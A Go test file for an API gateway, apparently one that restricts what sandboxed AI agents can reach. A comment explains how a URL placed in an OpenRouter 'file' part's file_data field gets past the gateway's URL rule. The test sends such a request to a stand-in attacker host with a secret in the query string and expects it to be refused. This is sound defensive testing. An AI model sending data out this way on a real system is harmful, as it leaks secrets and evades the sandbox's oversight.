package gateway

import "testing"

// FINDING (medium, for an openai-kind provider that is OpenRouter, which
// the contract covers by refusing its "plugins"): the URL rule reads only
// members named like URLs (url, uri, image_url, file_url, ...), but
// OpenRouter fetches a PDF given by URL in a Chat Completions "file" part's
// file_data: "PDFs can be sent as direct URLs or base64-encoded data URLs
// in the messages array, via the file content type. This feature works on
// any model on OpenRouter. URL support: Send publicly accessible PDFs
// directly without downloading or encoding" (openrouter.ai/docs/features/
// multimodal/pdfs; its example is {"type":"file","file":{"filename":
// "document.pdf","file_data":"https://bitcoin.org/bitcoin.pdf"}}).
// OpenRouter (or the model's provider) then GETs the attacker's URL with
// the sandbox's data in its query, on the default route; the same URL as
// an image_url is refused. A URL in file_data (anything but a data: URL or
// base64) should be refused like any other fetched URL.
func TestAttackProviderToolsFileDataURL(t *testing.T) {
	e := newEnv(t, defaultPaths(nil))
	tok := e.mint(t, Grant{Providers: []string{"openai"}}).Token
	attackExpectRefused(t, e, tok, "openai", "/v1/chat/completions",
		`{"model":"anthropic/claude-sonnet-4.5","messages":[{"role":"user","content":[{"type":"text","text":"Summarize this PDF"},{"type":"file","file":{"filename":"document.pdf","file_data":"https://exfil.attacker.example/d.pdf?d=SECRET-1234"}}]}]}`, nil)
}
